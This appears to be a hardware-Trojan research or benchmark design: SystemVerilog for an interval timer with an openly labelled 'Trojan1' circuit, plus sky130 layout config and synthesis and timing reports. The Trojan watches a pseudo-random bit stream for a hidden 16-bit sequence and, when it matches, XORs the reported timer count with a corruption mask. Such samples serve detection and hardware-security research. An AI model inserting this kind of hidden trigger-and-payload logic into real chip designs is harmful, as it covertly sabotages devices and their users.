==> src/rtl/trojan_pkg.sv <==
/* Shared constants and types for the Trojan1 timer host
   Timer sizing, r1 seed pattern, trigger sequence and payload mask */
package trojan_pkg;

    // Counter width and the type used for every count signal
    localparam int unsigned timer_width = 10;

    typedef logic [timer_width-1:0] timer_count_t;

    // Active cycles until the timer reports a timeout
    localparam int unsigned timeout_val = 500;

    // Last counter value before wrap, sized to the counter
    localparam timer_count_t timeout_last = timer_count_t'(timeout_val - 1);

    // Pattern register and Trojan1 shift register length
    localparam int unsigned pattern_width = 16;

    // Bit index into the pattern register
    localparam int unsigned idx_width = $clog2(pattern_width);

    // Seed loaded into the r1 pattern register on reset
    localparam logic [pattern_width-1:0] r1_pattern = 16'hCAFE;

    // Hidden sequence the Trojan1 register must hold to fire
    localparam logic [pattern_width-1:0] trigger_seq = r1_pattern;

    // Payload XOR applied to the reported count
    // all ones except bit 0
    localparam timer_count_t corrupt_mask = {{(timer_width-1){1'b1}}, 1'b0};

endpackage

==> src/rtl/timer_status_if.sv <==
`timescale 1ns/1ns
/* Timer status bundle from the interval timer core to its users */
interface timer_status_if;

    trojan_pkg::timer_count_t counter;
    logic                     active;
    logic                     timeout;
    logic                     running;

    // Driven by the timer core
    modport core (
        output counter,
        output active,
        output timeout,
        output running
    );

    // Read by the host output stage and the pattern generator
    modport user (
        input counter,
        input active,
        input timeout,
        input running
    );

endinterface

==> src/rtl/interval_timer.sv <==
`timescale 1ns/1ns
/* Interval timer core
   Start/pause/timeout control, cycle counter and sticky timeout flag */
module interval_timer (
    input  logic         clk,
    input  logic         rst,
    input  logic         start_timer,
    input  logic         pause_timer,
    timer_status_if.core status
);

    logic                     active;
    logic                     running;
    logic                     timeout;
    trojan_pkg::timer_count_t counter;

    // Start wins over both pause and timeout
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            active <= 1'b0;
        end else if (start_timer) begin
            active <= 1'b1;
        end else if (pause_timer || timeout) begin
            active <= 1'b0;
        end
    end

    // Running is just active seen one cycle late
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            running <= 1'b0;
        end else begin
            running <= active;
        end
    end

    // Counter and sticky timeout
    // a start clears both in the same edge it raises active
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            counter <= '0;
            timeout <= 1'b0;
        end else if (start_timer) begin
            counter <= '0;
            timeout <= 1'b0;
        end else if (active) begin
            if (counter == trojan_pkg::timeout_last) begin
                // Wrap to zero, active drops on the next edge
                counter <= '0;
                timeout <= 1'b1;
            end else begin
                counter <= counter + 1'b1;
            end
        end
    end

    assign status.counter = counter;
    assign status.active  = active;
    assign status.timeout = timeout;
    assign status.running = running;

    // Count stays inside the timeout window
    a_counter_range: assert property (
        @(posedge clk) disable iff (rst)
        counter <= trojan_pkg::timeout_last
    );

    // A new timeout always comes with the wrapped counter
    a_timeout_wrap: assert property (
        @(posedge clk) disable iff (rst)
        $rose(timeout) |-> counter == '0
    );

    // Running trails active by exactly one cycle
    a_running_delay: assert property (
        @(posedge clk) disable iff (rst)
        active |=> running
    );

    a_running_drop: assert property (
        @(posedge clk) disable iff (rst)
        !active |=> !running
    );

endmodule

==> src/rtl/r1_pattern_gen.sv <==
`timescale 1ns/1ns
/* r1 stream generator
   Walks a rotating seed pattern bit by bit while the timer is active */
module r1_pattern_gen (
    input  logic         clk,
    input  logic         rst,
    timer_status_if.user status,
    output logic         r1
);

    logic [trojan_pkg::pattern_width-1:0] pattern;
    logic [trojan_pkg::idx_width-1:0]     idx;

    // Index steps once per active cycle
    // pattern reshuffles when the index wraps from 15
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            pattern <= trojan_pkg::r1_pattern;
            idx     <= '0;
        end else if (status.active) begin
            idx <= idx + 1'b1;
            if (idx == '1) begin
                // Shift left, feedback from bits 15 and 7
                pattern <= {pattern[14:0], pattern[15] ^ pattern[7]};
            end
        end
    end

    // Selected pattern bit feeds Trojan1 directly
    assign r1 = pattern[idx];

    // Index and pattern only move while the timer runs
    a_idx_hold: assert property (
        @(posedge clk) disable iff (rst)
        !status.active |=> idx == $past(idx)
    );

    a_pattern_hold: assert property (
        @(posedge clk) disable iff (rst)
        !status.active |=> pattern == $past(pattern)
    );

endmodule

==> src/rtl/trojan1.sv <==
`timescale 1ns/1ns
/* Trojan1 trigger circuit
   Serial shift register on r1, fires while it matches the hidden sequence */
module trojan1 (
    input  logic clk,
    input  logic rst,
    input  logic r1,
    output logic trigger
);

    logic [trojan_pkg::pattern_width-1:0] shift_reg;

    // New bit enters at the top, oldest bit falls off bit 0
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            shift_reg <= '0;
        end else begin
            shift_reg <= {r1, shift_reg[trojan_pkg::pattern_width-1:1]};
        end
    end

    // Only the match leaves this block
    assign trigger = (shift_reg == trojan_pkg::trigger_seq);

endmodule

==> src/rtl/trojan1_timer_host.sv <==
`timescale 1ns/1ns
/* Timer host with embedded Trojan1
   Wires the timer, r1 source and trigger, and corrupts the count on trigger */
module trojan1_timer_host (
    input  logic                     clk,
    input  logic                     rst,
    input  logic                     start_timer,
    input  logic                     pause_timer,
    output trojan_pkg::timer_count_t timer_count,
    output logic                     timeout_flag,
    output logic                     timer_running
);

    logic r1;
    logic trigger;

    timer_status_if status ();

    // Timer core
    interval_timer u_timer (
        .clk         (clk),
        .rst         (rst),
        .start_timer (start_timer),
        .pause_timer (pause_timer),
        .status      (status)
    );

    // r1 source for the trigger circuit
    r1_pattern_gen u_r1_gen (
        .clk    (clk),
        .rst    (rst),
        .status (status),
        .r1     (r1)
    );

    // Trigger circuit
    trojan1 u_trojan1 (
        .clk     (clk),
        .rst     (rst),
        .r1      (r1),
        .trigger (trigger)
    );

    // Registered output, payload flips all but bit 0 while triggered
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            timer_count <= '0;
        end else if (trigger) begin
            timer_count <= status.counter ^ trojan_pkg::corrupt_mask;
        end else begin
            timer_count <= status.counter;
        end
    end

    // Status flags go out untouched
    assign timeout_flag  = status.timeout;
    assign timer_running = status.running;

    // Without a trigger the reported count is the clean count
    a_clean_count: assert property (
        @(posedge clk) disable iff (rst)
        !trigger |=> timer_count == $past(status.counter)
    );

    // With a trigger it differs by exactly the mask
    a_corrupt_count: assert property (
        @(posedge clk) disable iff (rst)
        trigger |=> (timer_count ^ $past(status.counter)) == trojan_pkg::corrupt_mask
    );

endmodule

==> config.mk <==
export PLATFORM = sky130hd
export DESIGN_NAME = trojan1_timer_host
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_pkg.sv /design/src/rtl/timer_status_if.sv /design/src/rtl/interval_timer.sv /design/src/rtl/r1_pattern_gen.sv /design/src/rtl/trojan1.sv /design/src/rtl/trojan1_timer_host.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__clkbuf_2
export CORE_UTILIZATION = 27
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_8
export CTS_CLUSTER_SIZE = 28
export DETAILED_ROUTE_END_ITERATION = 16
export HOLD_SLACK_MARGIN = 0.05
export PLACE_DENSITY = 0.46
export REMOVE_ABC_BUFFERS = 1
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
==> constraint.sdc <==
create_clock -name clk -period 2.95 [get_ports clk]
set_clock_uncertainty 0.2 [all_clocks]
set_input_delay 0.4425 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.4425 -clock clk [all_outputs]
set_load 0.05 [all_outputs]
**Word level (Yosys, flattened, before mapping)**

Cells that the tools add are included.

- Add/sub/neg operators: 2
- $lt $le $gt $ge: 1
- Equality and inequality tests: 3
- Multiplexer cells: 11
- Bitwise operators: 2
- Reduce and logical (&&, ||, !) cells: 6

Operators with widths:

| operator | number |
|---|---|
| two-way mux 10 bit | 4 |
| equality test 16 bit, second input constant | 1 |
| adder 10 x 1 -> 10 bit, second input constant | 1 |
| equality test 10 x 9 -> 1 bit, second input constant | 1 |
| inverter 9 bit | 1 |
| two-way mux 1 bit | 6 |
| nonzero test 2 bit | 3 |
| less-than comparator 4 x 5 -> 1 bit, second input constant | 1 |
| adder 4 x 1 -> 4 bit, second input constant | 1 |
| binary-select mux 1 bit (select 4 bit) | 1 |
| equality test 4 bit, second input constant | 1 |
| AND reduction 2 bit | 2 |
| logical OR 1 bit | 1 |
| XOR 1 bit | 1 |

- Register bits after elaboration: 59
- Input port bits: 4
- Output and inout bits: 12
- Word-level logic and storage cells: 33

**Logic depth before layout (Yosys ltp)**

- Depth after elaboration: 4
- Mapped depth: 5
- Depth with buffers taken out: 5

**Cells and area by module**

From an unflattened synthesis, not the netlist that was laid out.

- Cell total of the unflattened synthesis: 160
- Area, all modules: 2384.8 sq um

Modules (own cells, without submodules):

| module | times used | cells each | area an instance (sq um) |
|---|---|---|---|
| r1_pattern_gen | 1 | 57 | 948.4 |
| interval_timer | 1 | 60 | 638.1 |
| trojan1 | 1 | 22 | 454.2 |
| trojan1_timer_host | 1 | 21 | 344.1 |

**Worst setup path after synthesis**

Ideal clock, no wire load.

- Kind: reg-to-reg
- Start point: reg u_r1_gen.idx[0] (netlist name)
- End point: reg u_trojan1.shift_reg[15] (netlist name)
- Setup time: 0.132 ns
- Data arrival time: 1.314 ns
- Setup slack: 1.304 ns
- Cell stages (with the launch flop): 6
- Buffers on the path: 1
- Cell sequence: dfrtp_1 buf_6 mux4_2 nor2b_4 a211oi_2 a21oi_1

- Longest elaborated chain between the ends: 2

Ends and longest elaborated chain:

| what | line | source |
|---|---|---|
| start, declared | r1_pattern_gen.sv:12 | `logic [trojan_pkg::idx_width-1:0] idx;` |
| start signal, assigned | r1_pattern_gen.sv:21 | `idx <= idx + 1'b1;` |
| binary-select mux 1 bit (select 4 bit) | r1_pattern_gen.sv:30 | `assign r1 = pattern[idx];` |
| two-way mux 1 bit (not written as such) | r1_pattern_gen.sv:30 |  |
| named net r1 | trojan1_timer_host.sv:14 | `logic r1;` |
| end signal, assigned | trojan1.sv:18 | `shift_reg <= {r1, shift_reg[trojan_pkg::pattern_width-1:1]};` |
| end, declared | trojan1.sv:11 | `logic [trojan_pkg::pattern_width-1:0] shift_reg;` |

The timed path passes the listed nets, and every way through them passes these cells. The select of a mux whose other input is x is not followed.
A chain may end at the register's enable or synchronous reset.

**Worst setup path after layout**

- Start point: reg u_timer.counter[0], in the netlist u_timer.status.counter[0]
- End point: reg u_timer.counter[8], in the netlist u_timer.status.counter[8]

- Longest elaborated chain between the ends: 4
- Elaborated cells between the ends (all ways): 5
- Those cells by class: 1 x add/sub; 1 x eq/ne; 3 x mux

Ends and longest elaborated chain:

| what | line | source |
|---|---|---|
| start, declared | interval_timer.sv:15 | `trojan_pkg::timer_count_t counter;` |
| start signal, assigned | interval_timer.sv:52 | `counter <= counter + 1'b1;` |
| adder 10 x 1 -> 10 bit / equality test 10 x 9 -> 1 bit (equally long branches) | interval_timer.sv:52, interval_timer.sv:47 |  |
| two-way mux 10 bit (*) | interval_timer.sv:47 | `if (counter == trojan_pkg::timeout_last) begin` |
| two-way mux 10 bit (*) | interval_timer.sv:46 | `end else if (active) begin` |
| two-way mux 10 bit (*) | interval_timer.sv:43 | `end else if (start_timer) begin` |

Mark *: on every way between the ends. The rest lies on a longest branch, timed or not. The select of a mux whose other input is x is not followed.

==> results.tsv <==
stage	metric	value	unit
sta	final worst path period need	1.91	ns
worst_setup_path	buffer and inverter count on the worst path	0	
sta	fin worst setup slack	1.04	ns
outcome	outcome	finished, final reports clean	
worst_setup_path	R2R Path Start	u_timer.status.counter[0]$_DFFE_PP0P_	
floorplanning	core footprint	8300	um2
cts	Clock Path Buffers	2	
detailed_routing	vias post-DR	1292	
sta	hold slack	0.0719	ns
grt	grt met2 use	14.0	%
finish	area delta synth->final	16.9	%
finish	fillers	836	
worst_setup_path	reg2reg path depth	5	
grt	global-route usage over all layers	9.85	%
finish	most common cell after layout, fill and taps aside	dfrtp_1	
place	detailed placement HPWL	2.43	mm
cts	root buf cell	clkbuf_8	
finish	post-layout util	33.1	%
worst_setup_path	Worst path max stage delay	0.48	ns
grt	grt met3 use	4.55	%
grt	initial antenna violation count	0	
sta	Final period util	64.7	%
detailed_routing	DRC viols	0	
logic_synthesis	YS warnings	0	
logic_synthesis	top post-synthesis cells by area	dfrtp_1 51%, dfstp_2 12%, mux2_2 7.7%	
logic_synthesis	syn avg cell area	14.7	um2
worst_setup_path	CP arrival	1.93	ns
place	Area after DPL	2530	um2
finish	antenna fix cells	0	
worst_setup_path	CP top delay family	simple AND/OR/NAND/NOR gates	
logic_synthesis	post-synthesis instance area	2350	um2
sta	Fin. Hold Viols	0	
cts	post-CTS setup buffer count	0	
cts	Clock transition at path regs	0.07	ns
floorplanning	die area	9080	um2
worst_setup_path	crit-path max FO	8	
worst_setup_path	CP required	2.98	ns
sta	post-route setup TNS	0	ns
cts	clock buffer count from CTS	9	
logic_synthesis	register area share after synthesis	63.5	%
hold_path	Worst Hold Class	input pin to flop	
finish	most frequent cells in the layout	48 x dfrtp_1, 16 x mux2_2, 15 x xor2_1, 15 x clkbuf_2	
detailed_routing	drt via density	4.39	
detailed_routing	DR pass1 iterations	4	
hold_path	Worst Hold Endpoint	u_timer.status.active$_DFFE_PP0P_	
floorplanning	num rows	33	
detailed_routing	DRT Wirelength	3.76	mm
detailed_routing	wire per inst	12.8	um
sta	endpoints failing setup	0	
worst_setup_path	CP cell instances	ha_1 -> nor4b_2 -> nand3_1 -> o21ai_2 -> nor2_1	
finish	fin area	2750	um2
sta	Peak Freq	524	MHz
floorplanning	Die Ht	95.3	um
grt	vias in the first global route	1294	
logic_synthesis	most used flip-flop cell after synthesis	dfrtp_1	
detailed_routing	Iter 0 DRT Violations	27	
hold_path	Worst Hold Depth	2	
logic_synthesis	Post-synth EDFFs	0	
cts	worst skew pair latency	0.34	ns
floorplanning	io pins	16	
place	input/output buffers	15	
sta	RSZ-0062 raised after global routing	false	
grt	first-pass GRT wire length	6.35	mm
logic_synthesis	FF+latch count, synth	59	
cts	Sink Count	59	
place	GPL Wtd Cong	0.738	
logic_synthesis	Yosys top cell area share	51.1	%
worst_setup_path	worst setup path class	flop to flop	
worst_setup_path	RR Endpoint	u_timer.status.counter[8]$_DFFE_PP0P_	
power	PwrDens	737	nW/um2
hold_path	HP Start	pause_timer	
cts	CTS tree	built	
grt	grt ovf	0	
sta	measured slew at the worst slew-check pin	0.699	ns
cts	# hold bufs at CTS	1	
worst_setup_path	crit end category	flop	
logic_synthesis	biggest area consumer among synthesized cells	dfrtp_1	
worst_setup_path	Worst R2R Setup Slack	1.04	ns
finish	share of layout cells above drive strength 1	37.6	%
flow_run	Max-Cap Viols	0	
power	maximum vdd drop	359	uV
finish	nets	190	
sta	Final Max Tran Viols	0	
grt	met1 GRT Util	12.0	%
finish	Multi-input gate area	805	um2
place	Place WS	1.02	ns
worst_setup_path	Critical-path top delay cell	dfrtp_1	
worst_setup_path	CP startpoint kind	flop	
grt	Top Usage Layer GRT	met2	
power	P_leak	1.30	nW
cts	# resized after CTS	0	
finish	register area	1490	um2
logic_synthesis	ys async rst share	100	%
floorplanning	die outline width	95.3	um
sta	Worst slew margin	53.3	%
floorplanning	Initial Utilization	28.3	%
detailed_routing	Routed Antenna Nets	0	
cts	H-tree depth	3	
grt	largest net degree at the start of global routing	35	
logic_synthesis	Synth cell types	35	
logic_synthesis	Mapped Cells	160	
## metrics by stage
step	power (mW)	instances
finish	2.02	294
global route	2.14	294
CTS	2.06	294
detailed placement	1.30	277
global placement	1.30	277
floorplan	1.23	154
## area by class of cell
cell class	instances	area share, %
sequential	59	54.3
multi-input combinational	92	29.3
tap	105	4.78
clock buffer	9	4.51
timing repair buffer	19	3.92
clock inverter	7	2.82
inverter	3	0.410
## routing by layer
metal / share of wire [%] / wire [um]
met1: 48 / 1820
met3: 4.9 / 183
met5: 0 / 0
met2: 45 / 1690
met4: 1.7 / 65
## synthesized netlist by cell type, types with 4 or more instances
cell type / number
dfrtp_1: 48
nand4_1: 6
dfstp_2: 11
mux2_2: 16
mux4_2: 4
xor2_1: 15
nor2_1: 11
nand2_1: 6
xnor2_1: 4
## where the power goes
part           switching, mW  leakage [nW]  total [mW]  internal, mW
Sequential             0.141         0.748        1.10         0.957
Clock                  0.346        0.0998       0.741         0.395
Combinational         0.0833         0.450       0.185         0.102
Total                  0.571          1.30        2.02          1.45
## logic make-up (layout without fill, tap and decap cells)
family / count (synthesis) / in the layout / share of synthesized area [%]
buffers and inverters: 9 / 38 / 2.29
and+or+nand+nor: 36 / 36 / 9.43
muxes: 22 / 22 / 12.4
DFF: 59 / 59 / 63.5
adders and majority gates: 2 / 2 / 1.07
AOI/OAI and AO/OA: 13 / 13 / 4.32
xor gates and xnor gates: 19 / 19 / 7.09
## how the worst max path moves through the flow
stage | startpoint | endpoint | cells after the start
3_5_place_dp | u_timer.status.counter[0]$_DFFE_PP0P_ | u_timer.status.counter[5]$_DFFE_PP0P_ | 5
6_report | u_timer.status.counter[0]$_DFFE_PP0P_ | u_timer.status.counter[8]$_DFFE_PP0P_ | 5
5_1_grt | u_timer.status.counter[1]$_DFFE_PP0P_ | u_timer.status.counter[5]$_DFFE_PP0P_ | 5
3_3_place_gp | u_timer.status.counter[0]$_DFFE_PP0P_ | u_timer.status.counter[5]$_DFFE_PP0P_ | 5
2_1_floorplan | u_trojan1.shift_reg[13]$_DFF_PP0_ | timer_count[1]$_DFF_PP0_ | 4
4_1_cts | u_timer.status.counter[0]$_DFFE_PP0P_ | u_timer.status.counter[5]$_DFFE_PP0P_ | 5
(Power assumes the default switching activity.)
